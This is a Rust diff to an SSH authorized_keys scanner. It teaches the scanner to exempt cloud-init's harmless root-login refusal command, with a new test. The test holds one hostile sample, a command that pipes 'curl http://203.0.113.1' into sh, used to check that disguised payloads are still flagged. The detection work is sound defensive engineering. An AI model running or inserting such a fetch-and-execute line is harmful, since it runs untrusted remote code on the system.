@@ -84,6 +84,15 @@ fn looks_malicious(command: &str) -> bool {
     .any(|p| c.contains(p))
 }
 
+/// cloud-init's `disable_root_opts` command, written in front of root's keys on cloud images:
+/// `echo 'Please login as the user "ubuntu" rather than the user "root".';echo;sleep 10;exit 142`.
+fn is_cloud_init_refusal(command: &str) -> bool {
+    let c = command.trim();
+    c.starts_with("echo 'Please login as the user ")
+        && c.ends_with("exit 142")
+        && !c.contains(['|', '`', '$', '>', '<', '&'])
+}
+
 fn key_json(k: &KeyLine) -> serde_json::Value {
     json!({
         "line": k.line,
@@ -266,12 +275,16 @@ fn examine_file(
     for k in &parsed.keys {
         let mut reasons: Vec<(Severity, String)> = Vec::new();
         if let Some(cmd) = k.option("command") {
-            let severity = if looks_malicious(cmd) {
-                Severity::Critical
+            if is_cloud_init_refusal(cmd) {
+                // cloud-init's disable_root: the key only prints "login as ubuntu" and exits.
             } else {
-                Severity::High
-            };
-            reasons.push((severity, format!("runs command=\"{cmd}\" on login")));
+                let severity = if looks_malicious(cmd) {
+                    Severity::Critical
+                } else {
+                    Severity::High
+                };
+                reasons.push((severity, format!("runs command=\"{cmd}\" on login")));
+            }
         }
         if let Some(env) = k.option("environment") {
             let severity = if env.starts_with("LD_") || env.starts_with("BASH_ENV") {
@@ -462,6 +475,28 @@ mod tests {
             folded.evidence["lines"].as_array().map(|a| a.len()),
             Some(51)
         );
+    }
+
+    #[test]
+    fn cloud_init_root_refusal_is_not_a_backdoor() {
+        let line = format!(
+            "no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command=\"echo 'Please login as the user \\\"ubuntu\\\" rather than the user \\\"root\\\".';echo;sleep 10;exit 142\" ssh-ed25519 {KEY} aws\n"
+        );
+        let dir = root_with(&[
+            ("/etc/passwd", DEBIAN_PASSWD),
+            ("/root/.ssh/authorized_keys", &line),
+        ]);
+        set_old(dir.path(), "/root/.ssh/authorized_keys");
+        let out = run_default(&AuthorizedKeys, dir.path());
+        assert!(
+            out.findings.iter().all(|f| f.severity <= Severity::Low),
+            "{:#?}",
+            out.findings
+        );
+        // and a real payload with the same prefix is not excused
+        assert!(!is_cloud_init_refusal(
+            "echo 'Please login as the user x'; curl http://203.0.113.1|sh; exit 142"
+        ));
     }
 
     #[test]
